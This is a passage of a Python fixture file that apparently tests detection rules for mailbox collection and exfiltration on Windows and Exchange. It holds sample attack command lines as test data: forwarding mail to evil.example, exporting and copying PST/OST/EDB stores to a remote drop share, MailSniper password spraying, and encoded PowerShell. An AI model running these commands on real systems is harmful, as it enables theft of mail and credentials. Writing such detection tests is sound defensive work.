            '-Mailbox "cfo" -Name ".." -SubjectContainsWords "invoice" -ForwardAsAttachmentTo "x@evil.example"',
            client="Remote-ManagementShell-Unknown",
        ),
    ),
    pos(
        R,
        "transport_rule_bcc",
        "New-TransportRule with BlindCopyTo.",
        msx(
            "New-TransportRule",
            '-Name "Compliance copy" -FromScope "InOrganization" -BlindCopyTo "archive@evil.example"',
        ),
    ),
    neg(
        R,
        "set_mailbox_clears_forwarding",
        "Set-Mailbox clearing forwarding ($null).",
        msx("Set-Mailbox", '-Identity "ceo" -ForwardingSmtpAddress $null'),
    ),
    neg(
        R,
        "inbox_rule_delete_spam",
        "New-InboxRule deleting spam.",
        msx(
            "New-InboxRule",
            '-Mailbox "bob" -Name "spam" -SubjectContainsWords "lottery" -DeleteMessage "True"',
        ),
    ),
]

SEC = "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security\\"
POL = "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Policies\\Microsoft\\Office\\16.0\\Outlook\\Security\\"
REG = "C:\\Windows\\system32\\reg.exe"
R = "win_outlook_unsafe_rules_registry"
FIXTURES[R] = [
    pos(
        R,
        "unsafe_client_rules_enabled",
        "reg.exe sets EnableUnsafeClientMailRules=1.",
        {
            "kind": "registry",
            "image": REG,
            "target": SEC + "EnableUnsafeClientMailRules",
            "details": "DWORD (0x00000001)",
        },
    ),
    pos(
        R,
        "object_model_guard_never_warn",
        "PowerShell sets the policy ObjectModelGuard to 2 (never warn).",
        {
            "kind": "registry",
            "image": PS,
            "target": POL + "ObjectModelGuard",
            "details": "DWORD (0x00000002)",
        },
    ),
    pos(
        R,
        "folder_home_pages_enabled",
        "Folder home pages re-enabled (Ruler home-page attack).",
        {
            "kind": "registry",
            "image": REG,
            "target": SEC + "EnableRoamingFolderHomepages",
            "details": "DWORD (0x00000001)",
        },
    ),
    neg(
        R,
        "gpo_disables_unsafe_rules",
        "Group Policy turns EnableUnsafeClientMailRules off.",
        {
            "kind": "registry",
            "image": "C:\\Windows\\system32\\svchost.exe",
            "target": POL + "EnableUnsafeClientMailRules",
            "details": "DWORD (0x00000000)",
        },
    ),
    neg(
        R,
        "com_hijack_of_outlook_clsid",
        "A COM server registration under CLSID (the shape of the Turla Outlook backdoor persistence): not a security switch.",
        {
            "kind": "registry",
            "image": REG,
            "target": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104_CLASSES\\CLSID\\{49CBB1C7-97D1-485A-9EC1-A26065633066}\\InProcServer32\\(Default)",
            "details": "C:\\Users\\bob\\Documents\\mapid.tlb",
        },
    ),
]

R = "win_outlook_unsafe_rules_cmdline"
FIXTURES[R] = [
    pos(
        R,
        "reg_add_unsafe_rules",
        "reg add EnableUnsafeClientMailRules 1.",
        proc(
            REG,
            'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security" /v EnableUnsafeClientMailRules /t REG_DWORD /d 1 /f',
            "reg.exe",
        ),
    ),
    pos(
        R,
        "powershell_backtick_object_model_guard",
        "PowerShell Set-ItemProperty with backticks sets PromptOOMSend to 2 (Elastic: Defend).",
        ps(
            'powershell -c "Set-Item`Property -Path HKCU:\\Software\\Policies\\Microsoft\\Office\\16.0\\Outlook\\Security -Name PromptOOMSend -Value 2"',
            via="defend",
        ),
    ),
    neg(
        R,
        "reg_query_audit",
        "reg query of the same value (audit).",
        proc(
            REG,
            'reg query "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security" /v EnableUnsafeClientMailRules',
            "reg.exe",
        ),
    ),
    neg(
        R,
        "hardening_sets_zero",
        "Hardening script sets EnableUnsafeClientMailRules to 0.",
        proc(
            REG,
            "reg add HKCU\\Software\\Policies\\Microsoft\\Office\\16.0\\Outlook\\Security /v EnableUnsafeClientMailRules /t REG_DWORD /d 0 /f",
            "reg.exe",
        ),
    ),
]

R = "win_smtp_outbound_non_mail_process"
FIXTURES[R] = [
    pos(
        R,
        "powershell_send_mailmessage_587",
        "PowerShell (Send-MailMessage) connects to a submission port.",
        {"kind": "network", "image": PS, "port": 587, "dhost": "smtp.mail-relay.example"},
    ),
    pos(
        R,
        "python_smtps_465",
        "Python smtplib over SMTPS.",
        {
            "kind": "network",
            "image": "C:\\Users\\bob\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
            "port": 465,
        },
    ),
    pos(
        R,
        "fake_thunderbird_in_temp",
        "A binary named thunderbird.exe in Temp: filtered only at its real path.",
        {
            "kind": "network",
            "image": "C:\\Users\\bob\\AppData\\Local\\Temp\\thunderbird.exe",
            "port": 2525,
        },
    ),
    neg(
        R,
        "outlook_submits_mail",
        "Outlook submitting mail on 587.",
        {"kind": "network", "image": OUTLOOK, "port": 587, "dhost": "smtp.office365.com"},
    ),
    neg(
        R,
        "exchange_edge_transport",
        "Exchange transport delivering on 25.",
        {
            "kind": "network",
            "image": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe",
            "port": 25,
            "host": EXCH,
        },
    ),
    neg(
        R,
        "browser_https",
        "A browser on 443.",
        {
            "kind": "network",
            "image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "port": 443,
            "dhost": "www.example.com",
        },
    ),
]

R = "win_email_collection_multi_signal"
COPY = {"kind": "file", "image": PS, "target": "C:\\Users\\Public\\o.ost"}
SMTP = {"kind": "network", "image": PS, "port": 587}
FWD = sb("Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example")
FIXTURES[R] = [
    case(
        "ost_copy_then_smtp_same_host",
        "An OST copied by PowerShell, then PowerShell mails out over 587 on the same host within minutes.",
        [COPY, SMTP],
        match=[
            R,
            "win_outlook_data_file_created_by_non_outlook",
            "win_smtp_outbound_non_mail_process",
        ],
    ),
    case(
        "automation_then_forwarding",
        "Outlook read through COM, then a forwarding cmdlet, same host.",
        [sb(OUTLOOK_COM_SCRIPT), FWD],
        match=[R, "win_outlook_automation_script", "win_exchange_forwarding_cmdlet_script"],
    ),
    case(
        "signals_on_different_hosts",
        "Two signals, but on two different hosts.",
        [COPY, dict(SMTP, host="WS02.contoso.local")],
        no_match=[R],
    ),
    case(
        "one_signal_twice",
        "The same signal twice on one host is one signal.",
        [COPY, dict(COPY, target="C:\\Users\\Public\\p.pst")],
        no_match=[R],
    ),
    case(
        "signals_hours_apart",
        "Two signals on one host two hours apart.",
        [COPY, dict(SMTP, at=7200)],
        no_match=[R],
    ),
    case(
        "signals_either_side_of_half_hour",
        "Two signals ten minutes apart on either side of 09:30, the edge of a fixed 30-minute window: "
        "the window slides over them (Elastic: the window starting at 09:15 holds both).",
        [COPY, dict(SMTP, at=600)],
        match=[R],
        time="2026-11-20T09:25:00Z",
    ),
    case(
        "one_script_block_two_signals",
        "One script block reads the Inbox through COM and sets forwarding: two signals in one event.",
        [
            sb(
                OUTLOOK_COM_SCRIPT
                + "\nSet-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example"
            )
        ],
        match=[R, "win_outlook_automation_script", "win_exchange_forwarding_cmdlet_script"],
    ),
    case(
        "signals_35_minutes_apart",
        "Two signals on one host 35 minutes apart: outside the 30-minute window.",
        [COPY, dict(SMTP, at=2100)],
        no_match=[R],
    ),
    case(
        "signals_25_minutes_apart",
        "Two signals on one host 25 minutes apart: inside Sigma's sliding window. Elastic's ES|QL form "
        "finds them only when they share one of its windows (30 minutes long, one starting every 7.5 minutes), so this case "
        "is reported unverified there.",
        [COPY, dict(SMTP, at=1500)],
        match=[R],
    ),
]


# --- Cases added for the procedure catalogue (docs/procedures.md) --------------------------
# New rules go on at the end of FIXTURES; new cases of older rules go into VARIANTS, which
# the generator numbers after everything else so the older files keep their record numbers.
VARIANTS = {}

ATOMIC_GET_INBOX = (
    'powershell -executionpolicy bypass -command "C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1" '
    "-file C:\\Users\\bob\\AppData\\Local\\Temp\\mail.csv"
)
R = "win_mail_collection_script_run"
FIXTURES[R] = [
    pos(
        R,
        "atomic_t1114_001_get_inbox",
        "Atomic Red Team T1114.001 #1 as its executor runs it: PowerShell started by PowerShell "
        "with the quoted path of Get-Inbox.ps1 and a CSV to write.",
        ps(ATOMIC_GET_INBOX, parent=PS),
    ),
    pos(
        R,
        "legacy_atomic_unquoted_lower_case",
        "The older T1114 test: unquoted path, script name in lower case, seen as Security 4688.",
        proc(
            PS,
            "powershell -ExecutionPolicy Bypass -Command c:\\atomicredteam\\atomics\\T1114\\src\\get-inbox.ps1 -file %TEMP%\\mail.csv",
            via="security",
        ),
    ),
    pos(
        R,
        "renamed_pwsh_unc_mailsniper",
        "MailSniper.ps1 dot-sourced from a UNC share by PowerShell 7 renamed to svc.exe (Elastic: Defend).",
        proc(
            "C:\\ProgramData\\svc.exe",
            "svc.exe -nop -c \". '\\\\10.9.8.7\\tools$\\MailSniper.ps1'; Invoke-SelfSearch -Mailbox bob@contoso.com\"",
            "pwsh.dll",
            via="defend",
        ),
    ),
    pos(
        R,
        "relative_path_file_switch",
        "Get-Inbox.ps1 run by relative path with -File from the user's Downloads.",
        ps("powershell.exe -ep bypass -File .\\Get-Inbox.ps1 -file out.csv"),
    ),
    neg(
        R,
        "admin_inbox_rule_report_script",
        "An administrator's Get-InboxRule.ps1 report: the name only starts like Get-Inbox.",
        ps("powershell.exe -File C:\\Scripts\\Get-InboxRule.ps1 -Mailbox bob", host=EXCH),
    ),
    neg(
        R,
        "inbox_statistics_script",
        "Get-InboxStatistics.ps1, a mailbox size report.",
        ps("powershell.exe -NoProfile -File \\\\fs01\\scripts$\\Get-InboxStatistics.ps1"),
    ),
    neg(
        R,
        "editor_opens_get_inbox",
        "Notepad opening Get-Inbox.ps1 (reviewing it) runs nothing.",
        proc(
            "C:\\Windows\\System32\\notepad.exe",
            "notepad.exe C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1",
            "NOTEPAD.EXE",
        ),
    ),
]

R = "win_security_mail_store_share_access"
OST_REL = "Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\alice@contoso.com.ost"
FIXTURES[R] = [
    pos(
        R,
        "ost_over_c_dollar",
        "Another host reads alice's OST through \\\\FS01\\C$ (the Chimera procedure).",
        {"kind": "share_access", "share": "\\\\*\\C$", "target": OST_REL},
    ),
    pos(
        R,
        "pst_over_d_dollar_upper_case",
        "An archive PST on D: read through D$, extension in upper case (forwarded Security event on Elastic).",
        {
            "kind": "share_access",
            "share": "\\\\*\\D$",
            "target": "Archive\\Finance\\CFO-2025.PST",
            "local": "\\??\\D:\\",
            "dataset": "windows.forwarded",
        },
    ),
    pos(
        R,
        "nst_over_admin_share_lower_case",
        "A group-conversation NST read through c$ written in lower case.",
        {
            "kind": "share_access",
            "share": "\\\\*\\c$",
            "target": "Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob.nst",
        },
    ),
    neg(
        R,
        "own_pst_on_home_share",
        "A user's Outlook opens the PST kept on the home share: an ordinary share, the owner's file.",
        {
            "kind": "share_access",
            "share": "\\\\*\\Home",
            "target": "bob\\Outlook\\archive.pst",
            "local": "\\??\\E:\\Home\\",
        },
    ),
    neg(
        R,
        "sccm_reads_admin_share",
        "Configuration Manager reading its client log through ADMIN$.",
        {
            "kind": "share_access",
            "share": "\\\\*\\ADMIN$",
            "target": "CCM\\Logs\\ccmexec.log",
            "local": "\\??\\C:\\Windows\\",
            "user": "CONTOSO\\svc-sccm",
        },
    ),
    neg(
        R,
        "pst_named_log_over_c_dollar",
        "A migration tool's log whose name contains .pst but does not end in it.",
        {
            "kind": "share_access",
            "share": "\\\\*\\C$",
            "target": "ProgramData\\Migrate\\alice.pst.log",
        },
    ),
]

R = "win_security_ruler_workstation_logon"
FIXTURES[R] = [
    pos(
        R,
        "ruler_ntlm_logon_to_exchange",
        "Ruler authenticates to Exchange over NTLM: network logon with workstation RULER.",
        {"kind": "logon", "workstation": "RULER", "host": EXCH},
    ),
    pos(
        R,
        "ruler_failed_spray_logon",
        "A failed logon from Ruler's brute-force mode (4625).",
        {
            "kind": "logon",
            "workstation": "RULER",
            "failed": True,
            "user": "CONTOSO\\j.doe",
            "host": EXCH,
        },
    ),
    neg(
        R,
        "ordinary_workstation_logon",
        "A user's workstation logs on to the Exchange server.",
        {"kind": "logon", "workstation": "WS01", "ip": "10.1.2.3", "host": EXCH},
    ),
    neg(
        R,
        "workstation_name_contains_ruler",
        "A host whose name merely contains RULER.",
        {"kind": "logon", "workstation": "RULER-LAB01", "ip": "10.1.7.9", "host": EXCH},
    ),
]

R = "win_exchange_management_export_request_removed"
FIXTURES[R] = [
    pos(
        R,
        "completed_request_removed",
        "Remove-MailboxExportRequest run by the Exchange administrator.",
        msx("Remove-MailboxExportRequest", '-Identity "cfo\\MailboxExport1" -Confirm:$false'),
    ),
    neg(
        R,
        "export_request_listed",
        "Get-MailboxExportRequest lists the requests; nothing removed.",
        msx("Get-MailboxExportRequest", '-Status "Completed"'),
    ),
    neg(
        R,
        "import_request_removed_2",
        "A completed import request removed.",
        msx("Remove-MailboxImportRequest", '-Identity "j.doe\\MailboxImport1"'),
    ),
]

R = "win_exchange_export_then_removed"
EXPORT = msx(
    "New-MailboxExportRequest",
    '-Mailbox "ceo" -FilePath "\\\\EXCH01\\c$\\Windows\\Temp\\ceo.pst"',
    caller="contoso.local/Users/svc-backup",
)
REMOVE = msx(
    "Remove-MailboxExportRequest",
    '-Identity "ceo\\MailboxExport" -Confirm "False"',
    caller="contoso.local/Users/svc-backup",
)
BOTH = [
    R,
    "win_exchange_management_mailbox_export",
    "win_exchange_management_export_request_removed",
]
FIXTURES[R] = [
    case(
        "export_then_removed_20_minutes_later",
        "svc-backup exports the CEO mailbox and removes the request 20 minutes later.",
        [EXPORT, dict(REMOVE, at=1200)],
        match=BOTH,
    ),
    case(
        "export_then_removed_by_another_admin",
        "One administrator exports and another removes the request through the same server: "
        "still the sequence (the grouping is by server).",
        [EXPORT, dict(REMOVE, at=1200, caller="contoso.local/Users/exadmin")],
        match=BOTH,
    ),
    case(
        "export_and_removal_on_different_servers",
        "The export is logged on EXCH01, an unrelated removal on EXCH02.",
        [EXPORT, dict(REMOVE, at=1200, host="EXCH02.contoso.local")],
        match=BOTH[1:],
        no_match=[R],
    ),
    case(
        "removed_before_export",
        "A removal of an older request, then a new export: the wrong order.",
        [REMOVE, dict(EXPORT, at=600)],
        match=BOTH[1:],
        no_match=[R],
    ),
    case(
        "removed_next_day",
        "The request removed five hours later, outside the two-hour window.",
        [EXPORT, dict(REMOVE, at=18000)],
        match=BOTH[1:],
        no_match=[R],
    ),
]

VARIANTS["win_mail_store_copy_or_archive"] = [
    pos(
        "win_mail_store_copy_or_archive",
        "wmic_remote_cmd_copy_pst",
        "Chimera: wmic /node starts cmd /c copy of a user's PST on another host.",
        proc(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            'wmic /node:10.1.2.40 process call create "cmd /c copy c:\\Users\\alice\\Documents\\backup.pst c:\\windows\\temp\\backup.pst"',
            "wmic.exe",
        ),
    ),
    pos(
        "win_mail_store_copy_or_archive",
        "cmd_copy_from_admin_share_wildcard",
        "Chimera: cmd copies the OSTs of a remote profile through \\\\host\\c$ with a wildcard.",
        proc(
            CMD,
            "cmd.exe /c copy \\\\WS02\\c$\\Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\*.ost C:\\ProgramData\\o\\",
            "Cmd.Exe",
        ),
    ),
    pos(
        "win_mail_store_copy_or_archive",
        "esentutl_from_shadow_copy",
        "esentutl copies an OST out of a volume shadow copy (device path).",
        proc(
            "C:\\Windows\\System32\\esentutl.exe",
            "esentutl.exe /y \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost /d C:\\Users\\Public\\b.ost",
            "esentutl.exe",
        ),
    ),
    pos(
        "win_mail_store_copy_or_archive",
        "xcopy_short_8_3_path",
        "xcopy of a PST named by its 8.3 short path.",
        proc(
            "C:\\Windows\\System32\\xcopy.exe",
            "xcopy C:\\Users\\bob\\DOCUME~1\\OUTLOO~1\\archive.pst C:\\Users\\Public\\ /y",
            "XCOPY.EXE",
        ),
    ),
    neg(
        "win_mail_store_copy_or_archive",
        "wmic_remote_dir_listing",
        "wmic /node starts a directory listing of PSTs: no copy.",
        proc(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            'wmic /node:10.1.2.40 process call create "cmd /c dir /s c:\\Users\\*.pst"',
            "wmic.exe",
        ),
    ),
    neg(
        "win_mail_store_copy_or_archive",
        "wmic_copy_of_logs",
        "wmic /node copies log files, no mail store.",
        proc(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            'wmic /node:10.1.2.40 process call create "cmd /c copy c:\\Windows\\Logs\\CBS\\CBS.log c:\\windows\\temp\\"',
            "wmic.exe",
        ),
    ),
]

R = "win_mail_hunting_tool_script"
VARIANTS[R] = [
    pos(
        R,
        "mailsniper_get_mailbox_folders",
        "MailSniper's Get-MailboxFolders lists another user's folders over EWS before a search.",
        sb(
            "Get-MailboxFolders -Mailbox ceo@contoso.com -ExchHostname mail.contoso.com -OutFile f.txt"
        ),
    ),
    pos(
        R,
        "mailsniper_owa_spray_backticks",
        "Invoke-PasswordSprayOWA with backticks, then Get-ADUsernameFromEWS on the hits.",
        sb(
            "Invoke-Password`SprayOWA -ExchHostname mail.contoso.com -UserList .\\u.txt -Password Winter2026 -Threads 15\nGet-ADUsernameFromEWS -EmailList .\\hits.txt"
        ),
    ),
    pos(
        R,
        "mailsniper_gmail_harvest",
        "Invoke-UsernameHarvestGmail and Invoke-DomainHarvestOWA, typed in lower case.",
        sb(
            "invoke-usernameharvestgmail -userfile .\\emails.txt; invoke-domainharvestowa -exchhostname mail.contoso.com"
        ),
    ),
    neg(
        R,
        "exchange_get_mailbox_folder_statistics",
        "Exchange's own Get-MailboxFolderStatistics: a name that only starts like MailSniper's Get-MailboxFolders.",
        sb(
            "Get-MailboxFolderStatistics -Identity bob -FolderScope Inbox | Select Name,ItemsInFolder",
            host=EXCH,
        ),
    ),
]
R = "win_mail_hunting_tool_cmdline"
VARIANTS[R] = [
    pos(
        R,
        "mailsniper_ews_spray_one_liner",
        "Invoke-PasswordSprayEWS from a one-liner after dot-sourcing MailSniper.",
        ps(
            'powershell -ep bypass -c ". .\\MailSniper.ps1; Invoke-PasswordSprayEWS -ExchHostname mail.contoso.com -UserList u.txt -Password Winter2026"'
        ),
    ),
    neg(
        R,
        "exchange_mailbox_folder_cmdlet",
        "Exchange's Get-MailboxFolder cmdlet in a one-liner.",
        ps('powershell -c "Get-MailboxFolder -Identity bob:\\Inbox -GetChildren"', host=EXCH),
    ),
]

R = "win_exchange_management_transport_agent_installed"
FIXTURES[R] = [
    pos(
        R,
        "lightneuron_style_agent_install",
        "A transport agent installed from a DLL in the Exchange bin folder under a Microsoft-like name (the LightNeuron procedure).",
        msx(
            "Install-TransportAgent",
            '-Name "Transport Service Helper" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory" -AssemblyPath "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\msextr.dll"',
        ),
    ),
    pos(
        R,
        "agent_enabled_remotely",
        "The installed agent enabled from a remote management shell.",
        msx(
            "Enable-TransportAgent",
            '-Identity "Transport Service Helper"',
            client="Remote-ManagementShell-Unknown",
        ),
    ),
    neg(
        R,
        "agents_listed",
        "Administrator lists the transport agents.",
        msx("Get-TransportAgent", ""),
    ),
    neg(
        R,
        "agent_disabled",
        "An agent disabled during troubleshooting.",
        msx("Disable-TransportAgent", '-Identity "Contoso Disclaimer"'),
    ),
    neg(
        R,
        "failed_agent_install",
        "An install that failed (event 6): no agent reaches the mail path.",
        msx(
            "Install-TransportAgent",
            '-Name "Helper" -AssemblyPath ".\\helper.dll" -TransportAgentFactory "Helper.Factory"',
            failed=True,
        ),
    ),
]

R = "win_exchange_management_mailbox_access_granted"
FIXTURES[R] = [
    pos(
        R,
        "full_access_on_ceo_mailbox",
        "FullAccess on the CEO mailbox for a compromised account, AutoMapping off.",
        msx(
            "Add-MailboxPermission",
            '-Identity "ceo" -User "contoso\\mallory" -AccessRights "FullAccess" -InheritanceType "All" -AutoMapping "False"',
        ),
    ),
    pos(
        R,
        "receive_as_on_database",
        "Receive-As on a whole mailbox database: every mailbox in it becomes readable.",
        msx(
            "Add-ADPermission",
            '-Identity "Mailbox Database 0412" -User "contoso\\svc-sync" -ExtendedRights "Receive-As"',
        ),
    ),
    pos(
        R,
        "impersonation_role_for_mailsniper",
        "MailSniper's Invoke-GlobalMailSearch assigns ApplicationImpersonation to its account over remote PowerShell.",
        msx(
            "New-ManagementRoleAssignment",
            '-Role "ApplicationImpersonation" -User "bob"',
            client="Remote-ManagementShell-Unknown",
        ),
    ),
    pos(
        R,
        "send_on_behalf_granted_abbreviated",
        "Set-Mailbox grants Send-on-Behalf with a colon-bound value.",
        msx("Set-Mailbox", '-Identity "cfo" -GrantSendOnBehalfTo:"mallory"'),
    ),
    pos(
        R,
        "inbox_opened_to_default",
        "The Inbox opened to Default (every authenticated user) with Reviewer rights.",
        msx(
            "Add-MailboxFolderPermission",
            '-Identity "ceo:\\Inbox" -User "Default" -AccessRights "Reviewer"',
        ),
    ),
    pos(
        R,
        "activesync_device_allowed",
        "Set-CASMailbox allows an attacker-registered ActiveSync device to sync the mailbox.",
        msx("Set-CASMailbox", '-Identity "cfo" -ActiveSyncAllowedDeviceIDs @{add="B5F2C8E1A7D34"}'),
    ),
    neg(
        R,
        "read_only_permission_query",
        "Get-MailboxPermission lists who has access.",
        msx("Get-MailboxPermission", '-Identity "ceo"'),
    ),
    neg(
        R,
        "calendar_shared_with_default",
        "Calendar shared with Default (free/busy): not the Inbox.",
        msx(
            "Set-MailboxFolderPermission",
            '-Identity "bob:\\Calendar" -User "Default" -AccessRights "LimitedDetails"',
        ),
    ),
    neg(
        R,
        "full_access_removed",
        "FullAccess removed after an assistant leaves.",
        msx(
            "Remove-MailboxPermission",
            '-Identity "ceo" -User "contoso\\old-assistant" -AccessRights "FullAccess" -Confirm "False"',
        ),
    ),
    neg(
        R,
        "send_on_behalf_cleared",
        "Set-Mailbox clearing Send-on-Behalf with $null.",
        msx("Set-Mailbox", '-Identity "cfo" -GrantSendOnBehalfTo $null'),
    ),
    neg(
        R,
        "activesync_disabled",
        "Set-CASMailbox turning ActiveSync off.",
        msx("Set-CASMailbox", '-Identity "leaver01" -ActiveSyncEnabled "False"'),
    ),
]

EDB = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb"
VARIANTS["win_mail_store_copy_or_archive"] += [
    pos(
        "win_mail_store_copy_or_archive",
        "esentutl_copies_edb_from_shadow",
        "esentutl /y copies the mailbox database out of a shadow copy on the Exchange server.",
        proc(
            "C:\\Windows\\System32\\esentutl.exe",
            'esentutl.exe /y "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb" /d C:\\Windows\\Temp\\m.edb',
            "esentutl.exe",
            host=EXCH,
        ),
    ),
    pos(
        "win_mail_store_copy_or_archive",
        "cmd_copy_custom_named_edb",
        "cmd copies a database with a custom name from under ...\\Mailbox\\ (Security 4688).",
        proc(
            CMD,
            'cmd.exe /c copy "D:\\ExchangeDB\\Mailbox\\DB01\\DB01.edb" \\\\10.9.8.7\\drop\\',
            via="security",
            host=EXCH,
        ),
    ),
    neg(
        "win_mail_store_copy_or_archive",
        "eseutil_header_dump",
        "The administrator dumps the database header with eseutil /mh (a daily health check).",
        proc(
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\eseutil.exe",
            'eseutil.exe /mh "' + EDB + '"',
            "eseutil.exe",
            host=EXCH,
        ),
    ),
    neg(
        "win_mail_store_copy_or_archive",
        "esentutl_copies_search_index",
        "esentutl copies the Windows Search index (Windows.edb): an ESE database, not mail.",
        proc(
            "C:\\Windows\\System32\\esentutl.exe",
            "esentutl.exe /y C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Windows.edb /d C:\\Temp\\w.edb",
            "esentutl.exe",
        ),
    ),
]


def encoded(text: str) -> str:
    """PowerShell's -EncodedCommand form of a script: base64 of its UTF-16LE bytes."""
    import base64

    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


R = "win_mail_collection_encoded_command"
FIXTURES[R] = [
    pos(
        R,
        "encoded_mailbox_export",
        "An encoded command exports the CEO mailbox to an admin share (only the base64 is in the process event).",
        ps(
            "powershell.exe -nop -w hidden -enc "
            + encoded(
                "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\EXCH01\\c$\\Windows\\Temp\\c.pst"
            ),
            host=EXCH,
        ),
    ),
    pos(
        R,
        "encoded_outlook_inbox_lower_case",
        "An encoded one-liner in lower case reads the Inbox through Outlook COM (Security 4688).",
        proc(
            PS,
            "powershell -e "
            + encoded(
                "$o=new-object -comobject outlook.application;$o.getnamespace('mapi').getdefaultfolder(6).items|%{$_.body}"
            ),
            via="security",
        ),
    ),
    pos(
        R,
        "encoded_forwarding_renamed_powershell",
        "Renamed PowerShell with an encoded Set-Mailbox -ForwardingSmtpAddress, text offset by one character (Elastic: Defend).",
        proc(
            "C:\\ProgramData\\upd.exe",
            "upd.exe -EncodedCommand "
            + encoded(" Set-Mailbox cfo -ForwardingSmtpAddress smtp:x@evil.example"),
            "PowerShell.EXE",
            via="defend",
        ),
    ),
    neg(
        R,
        "encoded_inventory_script",
        "A management agent's encoded inventory command: nothing of mail.",
        ps(
            "powershell.exe -NoProfile -EncodedCommand "
            + encoded("Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version")
        ),
    ),
    neg(
        R,
        "encoded_mailbox_statistics",
        "An encoded Exchange report (Get-MailboxStatistics): read-only, no collection.",
        ps(
            "powershell.exe -enc "
            + encoded(
                "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select DisplayName,TotalItemSize"
            ),
            host=EXCH,
        ),
    ),
]

R = "win_outlook_data_file_created_by_non_outlook"
VARIANTS[R] = [
    neg(
        R,
        "owner_copies_archive_in_explorer",
        "The user drags their archive PST to a USB stick in Explorer: the owner's own copy.",
        {
            "kind": "file",
            "image": "C:\\Windows\\explorer.exe",
            "target": "E:\\Backup\\archive2025.pst",
        },
    ),
    neg(
        R,
        "onedrive_syncs_pst",
        "OneDrive downloads a PST the user keeps in their synced Documents folder.",
        {
            "kind": "file",
            "image": "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
            "target": "C:\\Users\\bob\\OneDrive - Contoso\\Documents\\old-mail.pst",
            "via": "defend",
        },
    ),
    pos(
        R,
        "rclone_stages_ost_for_upload",
        "rclone writes a copy of the OST into its staging folder before the upload.",
        {
            "kind": "file",
            "image": "C:\\Users\\Public\\rclone.exe",
            "target": "C:\\Users\\Public\\sync\\bob@contoso.com.ost",
        },
    ),
]

# A new rule whose cases are numbered after every variant, so that no other file's record
# numbers move.
R = "win_security_ruler_workstation_ntlm_validation"
FIXTURES[R] = []
VARIANTS[R] = [
    pos(
        R,
        "ruler_ntlm_credentials_validated_on_dc",
        "The domain controller validates the NTLM credentials Ruler relays from Exchange: 4776 "
        "with the workstation name RULER of Ruler's NTLM negotiation.",
        {"kind": "credential_validation", "workstation": "RULER", "user": "CONTOSO\\bob"},
    ),
    pos(
        R,
        "ruler_spray_bad_password_validation",
        "Ruler's brute-force mode: a failed validation (bad password, 0xc000006a) from RULER.",
        {
            "kind": "credential_validation",
            "workstation": "RULER",
            "user": "CONTOSO\\j.doe",
            "status": "0xc000006a",
        },
    ),
    neg(
        R,
        "ordinary_workstation_validation",
        "A user's workstation's NTLM credentials validated on the domain controller.",
        {"kind": "credential_validation", "workstation": "WS01"},
    ),
    neg(
        R,
        "workstation_name_contains_ruler",
        "A lab host whose name merely contains RULER.",
        {"kind": "credential_validation", "workstation": "RULER-LAB01"},
    ),
    case(
        "logon_event_from_ruler_is_the_other_rules",
        "A 4624 logon from RULER on the Exchange server: the logon rule's event, not a "
        "credential validation.",
        [{"kind": "logon", "workstation": "RULER", "host": EXCH}],
        match=["win_security_ruler_workstation_logon"],
        no_match=[R],
    ),
]

# --- benign near-misses and variants from the outside check (issue 13) ------------------------
_OST = "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost"
_PST = "C:\\Users\\bob\\Documents\\Outlook Files\\archive.pst"
_SCHED = "C:\\Windows\\System32\\svchost.exe"

R = "win_mail_store_copy_or_archive"
FIXTURES[R] += [
    neg(
        R,
        "robocopy_backup_excludes_stores",
        "A scheduled backup job mirrors the profiles and excludes mail stores with /XF: the extensions name what is not copied.",
        proc(
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy C:\\Users \\\\backup01\\homes$ /MIR /XF *.ost *.pst /XD AppData /R:1 /W:1",
            "robocopy.exe",
            user="NT AUTHORITY\\SYSTEM",
            parent=_SCHED,
            parent_cmd="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        ),
    ),
    pos(
        R,
        "robocopy_includes_stores_with_if",
        "robocopy copies only mail stores through the /IF include option: still a copy of the stores.",
        proc(
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook \\\\10.9.8.7\\drop /S /IF *.ost *.pst",
            "robocopy.exe",
        ),
    ),
    pos(
        R,
        "robocopy_store_pattern_then_exclusion",
